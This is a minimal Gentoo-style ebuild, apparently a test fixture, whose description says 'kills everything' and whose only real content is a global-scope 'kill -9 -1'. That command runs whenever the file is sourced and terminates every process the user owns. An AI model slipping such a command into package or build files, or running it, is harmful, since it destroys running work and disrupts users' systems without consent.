EAPI=8
DESCRIPTION="kills everything"
SLOT=0
kill -9 -1
